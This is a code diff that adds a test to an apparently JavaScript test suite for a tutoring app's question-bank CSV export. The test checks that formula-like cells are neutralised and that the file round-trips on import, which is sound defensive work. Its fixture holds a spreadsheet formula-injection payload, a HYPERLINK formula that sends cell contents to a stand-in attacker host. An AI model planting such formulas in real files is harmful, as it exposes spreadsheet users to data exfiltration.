@@ -328,6 +328,29 @@ describe("GET /api/bank/export", () => {
     expect(content(await bankOf(other.id))).toEqual(content(original).map((q) => ({ ...q, stimulus: false })));
   });
 
+  it("CSV neutralises cells a spreadsheet would run, and still imports back exactly", async () => {
+    const tutor = await newTutor();
+    const formulaLike = {
+      text: '=HYPERLINK("http://evil.example/steal?q="&A1,"Click for the answer")',
+      options: ["+1+1", "-2", "@SUM(1)", "'=1"],
+      explanation: "-2, because 3 - 5 = -2",
+    };
+    const made = await call(questionsPost, { token: tutor.token, body: { subject: "Mathematics", exams: ["UTME"], answer: "B", ...formulaLike } });
+    expect(made.status, JSON.stringify(made.body)).toBe(201);
+    const file = await call(exportGet, { path: "/api/bank/export?format=csv&subject=Mathematics", token: tutor.token });
+    expect(file.status).toBe(200);
+    const row = file.text.split("\r\n")[1]!;
+    expect(row).toBe(
+      `"'=HYPERLINK(""http://evil.example/steal?q=""&A1,""Click for the answer"")","'+1+1","'-2","'@SUM(1)","''=1",,B,"'-2, because 3 - 5 = -2",,medium,UTME,original,`,
+    );
+
+    const other = await newTutor();
+    const res = await importFile(other.token, { format: "csv", text: file.text, subject: "Mathematics", preview: false });
+    expect(res.status, JSON.stringify(res.body)).toBe(201);
+    const [copy] = await bankOf(other.id);
+    expect({ text: copy!.question, options: copy!.options, explanation: copy!.explanation, answer: copy!.correctIndex }).toEqual({ ...formulaLike, answer: 1 });
+  });
+
   it("only the tutor's own active questions of the subject; a student → 403; bad query → 400", async () => {
     const tutor = await newTutor();
     const empty = await call(exportGet, { path: "/api/bank/export?format=json&subject=Physics", token: tutor.token });
